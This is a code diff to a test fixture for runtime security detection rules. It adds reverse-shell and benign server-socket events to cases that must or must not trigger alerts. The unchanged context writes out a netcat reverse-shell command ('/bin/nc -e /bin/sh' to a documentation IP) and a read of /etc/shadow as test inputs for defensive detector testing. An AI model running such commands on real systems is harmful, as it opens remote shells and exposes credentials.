@@ -29,6 +29,7 @@ FIRES: dict[str, list[EventFactory]] = {
     "runtime_reverse_shell": [
         lambda: dup_socket("203.0.113.7", 4444, 0, comm="bash"),
         lambda: dup_socket("2001:db8::7", 443, 2, comm="python3", container_id="host"),
+        lambda: dup_socket("203.0.113.7", 4444, 1, comm="sh", outbound=False),  # connected early
     ],
     "runtime_netcat_exec": [
         lambda: spawn("/bin/nc", "-e", "/bin/sh", "203.0.113.7", "4444"),
@@ -171,6 +172,8 @@ FIRES: dict[str, list[EventFactory]] = {
 MUST_NOT_FIRE: dict[str, list[EventFactory]] = {
     "runtime_reverse_shell": [
         lambda: event("dup_socket", fd=3, newfd=0, res=0, sock_type=1),  # a unix socket
+        # a server handing an accepted connection to its handler (busybox httpd, inetd)
+        lambda: dup_socket("198.51.100.4", 51234, 0, comm="httpd", outbound=False),
         lambda: open_file("/etc/shadow"),
     ],
     "runtime_netcat_exec": [
